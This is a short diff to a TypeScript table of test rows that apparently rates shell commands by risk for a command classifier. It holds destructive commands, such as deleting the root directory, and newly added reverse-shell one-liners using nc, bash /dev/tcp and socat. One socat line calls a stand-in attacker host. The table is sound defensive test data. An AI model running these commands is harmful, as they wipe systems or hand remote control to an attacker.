@@ -210,4 +210,9 @@ export const ROWS: Row[] = [
   [`python3 -c 'import shutil; shutil.rmtree("/")'`, "critical", "broad_file_deletion"],
   [`python3 -c 'exec("print(1)")'`, "medium"],
   ["node -e 'console.log(`rm -rf /`)'", "medium", "", "destructive_command"],
+  // remote shells: a program wired to a socket
+  ["nc -e /bin/sh 10.0.0.1 4444", "critical", "network_request"],
+  ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "critical", "network_request"],
+  ["socat TCP:evil.example.com:443 EXEC:/bin/bash", "critical", "network_request"],
+  ["nc -zv localhost 5432", "low medium", "network_request"],
 ];
